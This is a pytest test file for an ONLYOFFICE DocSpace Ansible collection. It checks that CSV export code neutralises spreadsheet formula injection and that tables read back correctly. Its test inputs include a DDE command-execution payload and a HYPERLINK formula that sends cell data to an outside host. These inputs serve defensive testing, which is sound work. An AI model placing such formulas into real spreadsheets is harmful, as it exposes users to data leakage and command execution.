# Copyright (c) 2026, the onlyoffice.docspace contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Tables for spreadsheets: nothing in them runs, and what was written is read back."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.onlyoffice.docspace.plugins.module_utils._base.errors import OptionError
from ansible_collections.onlyoffice.docspace.plugins.module_utils._report.spreadsheet import (
    neutral,
    plain,
    read_table,
    write_table,
)

SIGNS = "=+-@'\",;|\t\r\n \u00a0\u200b\u202e\ufeff\uff1d\uff0b\uff0d\uff20\u2212\ufe63a1"
texts = st.text(
    st.one_of(st.sampled_from(SIGNS), st.characters(blacklist_categories=["Cs"])), max_size=20
).filter(lambda text: "\0" not in text)
COLUMNS = ("person", "room", "reason")


def begins_a_formula(cell: str) -> bool:
    """Whether the first sign that a spreadsheet sees, in any width, begins a formula."""
    seen = [
        char
        for char in unicodedata.normalize("NFKC", cell)
        if not char.isspace() and char not in "\"`\u201c\u201d\u2018\u2019"
        and unicodedata.category(char)[0] not in "C"
    ]  # fmt: skip
    return bool(seen) and seen[0] in "=+-@\u2212"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        '"=1',
        "\u00a0=1",
        "\u200b=1",
        "\u202e=1",
        "\ufeff=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20a",
        '=HYPERLINK("https://example.com?"&A1)',
        "=cmd|'/C calc'!A0",
        "'=1",
        "'",
        "\tx",
        "\rx",
    ],
)
def test_what_might_be_a_formula_is_a_text(text):
    cell = neutral(text)

    assert cell.startswith("'")
    assert plain(cell) == text


@pytest.mark.parametrize("text", ["", "Sales", "O'Neil", "a=b", "ada@example.com", "Plans - 2026"])
def test_other_texts_are_left_alone(text):
    assert neutral(text) == plain(text) == text


@pytest.mark.parametrize("separator", list(",;|\t\r\n\u2028"))
def test_no_cell_begins_with_a_formula_where_the_separator_is_another(separator):
    assert neutral(f'Ada{separator}"=1+1"') == f'Ada{separator}\'"=1+1"'


@given(texts)
def test_every_text_is_read_back_and_none_runs(text):
    cell = neutral(text)

    assert plain(cell) == text
    for part in re.split("[,;|\t\r\n]", cell):
        assert not begins_a_formula(part)
    assert not cell.startswith(("\t", "\r", "\n"))


@given(st.lists(st.tuples(texts, texts, texts), max_size=5), st.sampled_from(",;\t"))
def test_a_table_is_read_back_from_what_a_spreadsheet_saves(rows, delimiter):
    written = write_table(COLUMNS, [tuple(map(neutral, row)) for row in rows])
    saved = io.StringIO(newline="")
    read = csv.reader(io.StringIO(written[1:], newline=""))
    csv.writer(saved, delimiter=delimiter, lineterminator="\r\n").writerows(read)

    filled = [dict(zip(COLUMNS, row)) for row in rows if any(row)]
    assert read_table("decisions", written.encode(), COLUMNS) == filled
    assert read_table("decisions", saved.getvalue().encode(), COLUMNS) == filled
    assert read_table("decisions", saved.getvalue().encode("utf-16"), COLUMNS) == filled


def test_a_table_has_a_mark_for_excel_and_the_line_ends_of_csv():
    assert write_table(("a", "b"), [('1"', "2\n3")]) == '\ufeff"a","b"\r\n"1""","2\n3"\r\n'


def test_a_line_that_names_the_separator_and_columns_in_another_order_are_read():
    assert read_table("decisions", b"sep=;\r\nb;a\r\n2;1\r\n;\r\n", ("a", "b")) == [
        {"a": "1", "b": "2"}
    ]


def test_empty_cells_at_the_end_of_lines_may_be_missing_or_be_there():
    assert read_table(
        "decisions", b"a,b,c,,\r\n1,2,3,,\r\n4\r\n,,,,\r\n,5\r\n", ("a", "b", "c")
    ) == [
        {"a": "1", "b": "2", "c": "3"},
        {"a": "4", "b": "", "c": ""},
        {"a": "", "b": "5", "c": ""},
    ]


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ("person,room,reason\nJosé,x,\n".encode("cp1252"), "is no text in UTF-8"),
        (b"\xff\xfea", "is no text in UTF-8"),
        (b"", "missing: person, room, reason; unknown: none"),
        (b"person,room\nA,B\n", "missing: reason; unknown: none"),
        (b"person,room,,reason\n", "missing: none; unknown: one without a name"),
        (b"person,room,reason,room\n", "has not the columns that it must have"),
        (b"person,room,reason\nA,B,C,D\n", "line 2 has 4 cells instead of 3"),
        (b'person,room,reason\nA,B,"x\n', "is no CSV"),
        (b'person,room,reason\nA,"B"x,\n', "line 2 is no CSV"),
    ],
)
def test_what_is_no_such_table_is_refused(data, problem):
    with pytest.raises(OptionError, match=r"^decisions: ") as refused:
        read_table("decisions", data, COLUMNS)

    assert problem in str(refused.value)
    assert str(refused.value).endswith(".")
